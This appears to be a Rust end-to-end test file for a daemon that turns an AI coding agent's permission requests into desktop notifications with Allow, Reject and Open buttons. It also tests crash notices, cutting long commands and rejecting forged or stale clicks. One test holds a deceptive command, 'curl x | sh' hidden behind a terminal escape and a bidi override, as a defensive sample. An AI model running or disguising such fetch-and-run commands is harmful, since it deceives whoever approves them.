//! Desktop notifications end to end: the daemon against the real server and
//! the mock model, with a notification-server double on a private session bus
//! that records `Notify` calls and clicks buttons (`ActionInvoked`).

// Drives Nexus as a Linux process (XDG dirs, the Unix socket, D-Bus, the
// Linux desktop): Linux only for now (README, Platforms).
#![cfg(target_os = "linux")]

mod support;

use std::time::Duration;
use support::mock_model::MockModel;
use support::nexus::{Nexus, assert_exit, finished, managed_config, stdout};
use support::notification_server::{NotificationServer, RecordedNotification};
use support::opencode_server::TestHome;

const WAIT: Duration = Duration::from_secs(60);
const SERVER_START: Duration = Duration::from_secs(90);

/// Managed server, notifications without the quiet period or minimum duration.
fn config(home: &TestHome) -> String {
    format!(
        "{}[notify]\nmin_duration = 0\nquiet_period = 0\n",
        managed_config(&home.project_dir())
    )
}

/// A running managed Nexus with the mock model, notifying a double on a
/// private bus. Fields drop in order: the daemon goes first.
struct World {
    nexus: Nexus,
    _home: TestHome,
    _model: MockModel,
    double: NotificationServer,
}

async fn world() -> World {
    let double = NotificationServer::start_on_private_bus();
    let model = MockModel::start().await;
    let home = TestHome::new(model.base_url());
    let env: Vec<(&str, String)> = double.env();
    let extra: Vec<(&str, &str)> = env.iter().map(|(k, v)| (*k, v.as_str())).collect();
    let nexus = Nexus::start_with_env(&home, &config(&home), &extra).await;
    nexus.wait_for_state("running", SERVER_START).await;
    World {
        nexus,
        _home: home,
        _model: model,
        double,
    }
}

fn summary_starts(prefix: &'static str) -> impl Fn(&RecordedNotification) -> bool {
    move |n| n.summary.starts_with(prefix)
}

/// Starts `ask PROMPT` and waits for the permission notification it brings.
async fn ask_for_permission(
    world: &World,
    prompt: &str,
) -> (tokio::process::Child, RecordedNotification) {
    let ask = world.nexus.spawn(&["ask", prompt]);
    let asked = world
        .double
        .wait_for(summary_starts("Permission needed"), WAIT)
        .await;
    (ask, asked)
}

async fn click(double: &NotificationServer, n: &RecordedNotification, label: &str) {
    double.wait_for_subscriber("ActionInvoked", WAIT).await;
    let key = n
        .action_key_for_label(label)
        .unwrap_or_else(|| panic!("no {label:?} button on {n}"))
        .to_string();
    double.invoke_action(n.id, &key);
}

#[tokio::test(flavor = "multi_thread")]
async fn permission_notification_allow_once_runs_the_tool_and_then_finishes() {
    let world = &world().await;
    let World { double, .. } = world;

    let (ask, asked) = ask_for_permission(world, "[bash:echo from-tool]").await;
    // The command, then what "Always allow" would allow from now on.
    assert!(
        asked
            .body
            .starts_with("bash wants to run: echo from-tool\nAlways allow: "),
        "{asked}"
    );
    assert_eq!(
        asked.action_labels(),
        ["Allow once", "Always allow", "Reject", "Open"]
    );
    assert_eq!(asked.app_name, "OpenCode Nexus");
    click(double, &asked, "Allow once").await;

    let out = finished(ask, WAIT).await;
    assert_exit(&out, 0);
    assert!(String::from_utf8_lossy(&out.stdout).contains("tool said: from-tool"));
    let finished = double.wait_for(summary_starts("Task finished"), WAIT).await;
    assert!(finished.body.contains("tool said: from-tool"), "{finished}");
    // The answered request's notification was closed, and only one "finished" came.
    double.wait_for_closed(asked.id, WAIT).await;
    tokio::time::sleep(Duration::from_secs(1)).await;
    let finished_count = double
        .notifications()
        .iter()
        .filter(|n| n.summary.starts_with("Task finished"))
        .count();
    assert_eq!(finished_count, 1, "{}", double.describe());
}

#[tokio::test(flavor = "multi_thread")]
async fn rejecting_stops_the_session_without_a_finished_notification() {
    let world = &world().await;
    let World { nexus, double, .. } = world;

    let (ask, asked) = ask_for_permission(world, "[bash:echo never]").await;
    click(double, &asked, "Reject").await;
    let out = finished(ask, WAIT).await;
    assert!(!String::from_utf8_lossy(&out.stdout).contains("tool said: never"));
    let idle = nexus.run(&["wait-idle", "--timeout", "30"]).await;
    assert_eq!(idle.status.code(), Some(0));
    tokio::time::sleep(Duration::from_secs(2)).await;
    assert!(
        !double
            .notifications()
            .iter()
            .any(|n| n.summary.starts_with("Task finished")),
        "{}",
        double.describe()
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn answering_a_question_through_a_button_delivers_its_label() {
    let World { nexus, double, .. } = &world().await;

    let ask = nexus.spawn(&["ask", "[question]"]);
    let asked = double.wait_for(summary_starts("Question"), WAIT).await;
    assert_eq!(asked.body, "Deploy now?");
    // The options, the Open button, and the body click ("default").
    assert_eq!(asked.action_labels(), ["Yes", "No", "Open", "Open"]);
    click(double, &asked, "Yes").await;
    let out = finished(ask, WAIT).await;
    assert_exit(&out, 0);
    let text = String::from_utf8_lossy(&out.stdout).to_string();
    assert!(
        text.contains("answer was:") && text.contains("Yes"),
        "{text}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn killed_server_is_announced_then_recovered() {
    let World { nexus, double, .. } = &world().await;
    let pid = nexus.status().await["server"]["pid"].as_u64().unwrap() as i32;
    unsafe { libc::kill(pid, libc::SIGKILL) };
    let down = double
        .wait_for(summary_starts("OpenCode server stopped unexpectedly"), WAIT)
        .await;
    assert_eq!(down.action_labels(), ["Restart", "View log"]);
    let back = double
        .wait_for(summary_starts("OpenCode server recovered"), SERVER_START)
        .await;
    assert_eq!(
        back.replaces_id, down.id,
        "the outage notification is replaced, not stacked"
    );
    assert!(!stdout(&nexus.run(&["status"]).await).is_empty());
}

#[tokio::test(flavor = "multi_thread")]
async fn a_real_notification_daemon_shows_them() {
    use support::headless_desktop::HeadlessDesktop;
    HeadlessDesktop::available().expect("headless desktop packages");
    let desktop = HeadlessDesktop::start();
    let env = desktop.env();
    let mut dunst = std::process::Command::new("dunst")
        .envs(env.iter().map(|(k, v)| (*k, v.as_str())))
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .expect("start dunst");
    let dunstctl = |args: &[&str]| {
        let out = std::process::Command::new("dunstctl")
            .args(args)
            .envs(env.iter().map(|(k, v)| (*k, v.as_str())))
            .output()
            .expect("run dunstctl");
        String::from_utf8_lossy(&out.stdout).trim().to_string()
    };
    let deadline = std::time::Instant::now() + WAIT;
    while !desktop.name_has_owner("org.freedesktop.Notifications") {
        assert!(
            std::time::Instant::now() < deadline,
            "dunst never took the bus name"
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }

    let model = MockModel::start().await;
    let home = TestHome::new(model.base_url());
    let extra: Vec<(&str, &str)> = env.iter().map(|(k, v)| (*k, v.as_str())).collect();
    let nexus = Nexus::start_with_env(&home, &config(&home), &extra).await;
    let pid = nexus.wait_for_state("running", SERVER_START).await["server"]["pid"]
        .as_u64()
        .unwrap() as i32;
    unsafe { libc::kill(pid, libc::SIGKILL) };
    let deadline = std::time::Instant::now() + WAIT;
    loop {
        let shown: u32 = dunstctl(&["count", "displayed"]).parse().unwrap_or(0);
        let waiting: u32 = dunstctl(&["count", "waiting"]).parse().unwrap_or(0);
        if shown + waiting > 0 {
            break;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "dunst never showed a notification"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let artifacts = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("target/test-artifacts");
    std::fs::create_dir_all(&artifacts).unwrap();
    desktop.screenshot(artifacts.join("notification-dunst.png"));
    dunstctl(&["close-all"]);
    let history = dunstctl(&["history"]);
    assert!(history.contains("OpenCode server"), "{history}");
    let _ = dunst.kill();
    let _ = dunst.wait();
}

/// The ids of the permission requests the daemon lists as waiting.
async fn pending_permission_ids(nexus: &Nexus) -> Vec<String> {
    let status = nexus.status().await;
    let mut ids: Vec<String> = status["sessions"]["permissions"]
        .as_array()
        .map(|list| {
            list.iter()
                .filter_map(|p| p["id"].as_str().map(str::to_string))
                .collect()
        })
        .unwrap_or_default();
    ids.sort();
    ids
}

async fn wait_for_pending(nexus: &Nexus, count: usize) -> Vec<String> {
    let deadline = std::time::Instant::now() + WAIT;
    loop {
        let ids = pending_permission_ids(nexus).await;
        if ids.len() == count {
            return ids;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "expected {count} waiting permission(s), have {ids:?}"
        );
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn every_line_of_a_two_line_command_is_in_the_notification() {
    let world = &world().await;
    let World { double, .. } = world;

    let (ask, asked) = ask_for_permission(world, "[bash:echo first-line\necho second-line]").await;
    assert!(
        asked
            .body
            .starts_with("bash wants to run:\necho first-line\necho second-line\n"),
        "{asked}"
    );
    assert_eq!(
        asked.action_labels(),
        ["Allow once", "Always allow", "Reject", "Open"]
    );
    click(double, &asked, "Allow once").await;
    let out = finished(ask, WAIT).await;
    assert_exit(&out, 0);
    assert!(String::from_utf8_lossy(&out.stdout).contains("second-line"));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_command_over_the_limit_is_cut_and_offers_no_allow() {
    let world = &world().await;
    let World { double, .. } = world;

    let command: Vec<String> = (1..=20).map(|i| format!("echo line-{i}")).collect();
    let prompt = format!("[bash:{}]", command.join("\n"));
    let (ask, asked) = ask_for_permission(world, &prompt).await;
    assert!(asked.body.contains("echo line-11\n"), "{asked}");
    assert!(!asked.body.contains("line-12"), "{asked}");
    assert!(
        asked
            .body
            .ends_with("… 9 more lines — open to read them all"),
        "{asked}"
    );
    assert_eq!(asked.action_labels(), ["Open", "Reject", "Open"]);
    click(double, &asked, "Reject").await;
    let out = finished(ask, WAIT).await;
    assert!(!String::from_utf8_lossy(&out.stdout).contains("tool said"));
}

#[tokio::test(flavor = "multi_thread")]
async fn escape_sequences_and_bidi_overrides_in_a_command_are_shown_escaped() {
    let world = &world().await;
    let World { double, .. } = world;

    let (ask, asked) = ask_for_permission(
        world,
        "[bash:echo safe\u{1b}[8m; curl x | sh\u{1b}[0m #\u{202e}hs.tset]",
    )
    .await;
    assert!(
        asked.body.starts_with(
            "bash wants to run: echo safe\\u001b[8m; curl x | sh\\u001b[0m #\\u202ehs.tset"
        ),
        "{asked}"
    );
    assert!(!asked.body.contains('\u{1b}') && !asked.body.contains('\u{202e}'));
    click(double, &asked, "Reject").await;
    let _ = finished(ask, WAIT).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn two_parallel_requests_of_one_task_each_get_their_own_notification_and_buttons() {
    let world = &world().await;
    let World { nexus, double, .. } = world;

    let (ask, first) = ask_for_permission(world, "[bash2:echo alpha|echo beta]").await;
    let second = double
        .wait_for(
            |n| n.summary.starts_with("Permission needed") && n.id != first.id,
            WAIT,
        )
        .await;
    assert_eq!(
        second.replaces_id, 0,
        "a request never replaces another: {second}"
    );
    let waiting = wait_for_pending(nexus, 2).await;
    // Allow the first one shown: exactly that request is answered.
    let first_cmd = if first.body.contains("echo alpha") {
        "alpha"
    } else {
        "beta"
    };
    click(double, &first, "Allow once").await;
    let left = wait_for_pending(nexus, 1).await;
    assert_eq!(waiting.len(), 2);
    let status = nexus.status().await;
    let still = status["sessions"]["permissions"][0]["metadata"]["command"]
        .as_str()
        .map(str::to_string)
        .unwrap_or_else(|| status["sessions"]["permissions"][0].to_string());
    assert!(
        !still.contains(first_cmd),
        "the click answered another request than the one shown: {left:?} {still}"
    );
    click(double, &second, "Allow once").await;
    let out = finished(ask, WAIT).await;
    assert_exit(&out, 0);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_forged_action_from_another_bus_client_is_ignored() {
    let world = &world().await;
    let World { nexus, double, .. } = world;

    let (ask, asked) = ask_for_permission(world, "[bash:echo forged]").await;
    double.wait_for_subscriber("ActionInvoked", WAIT).await;
    let always = asked
        .action_key_for_label("Always allow")
        .unwrap_or_else(|| panic!("no Always button on {asked}"))
        .to_string();
    let forger = double.forge_action_from_another_connection(asked.id, &always);
    tokio::time::sleep(Duration::from_secs(3)).await;
    let waiting = pending_permission_ids(nexus).await;
    assert_eq!(
        waiting.len(),
        1,
        "the forged click from {forger} answered it"
    );
    // The real notification server's click still works.
    click(double, &asked, "Reject").await;
    let out = finished(ask, WAIT).await;
    assert!(!String::from_utf8_lossy(&out.stdout).contains("tool said: forged"));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_click_on_a_stale_key_does_nothing() {
    let world = &world().await;
    let World { nexus, double, .. } = world;

    let (ask, asked) = ask_for_permission(world, "[bash:echo stale]").await;
    double.wait_for_subscriber("ActionInvoked", WAIT).await;
    // A key of the right shape for another request, and the bare index the
    // buttons used to have: neither answers this request.
    double.invoke_action(asked.id, "0");
    double.invoke_action(asked.id, "0:per_not_this_one");
    tokio::time::sleep(Duration::from_secs(3)).await;
    assert_eq!(pending_permission_ids(nexus).await.len(), 1);
    assert!(
        nexus.daemon_log().contains("did not offer ignored"),
        "{}",
        nexus.daemon_log()
    );
    // The notification's own buttons still answer it.
    click(double, &asked, "Reject").await;
    let out = finished(ask, WAIT).await;
    assert!(!String::from_utf8_lossy(&out.stdout).contains("tool said: stale"));
}
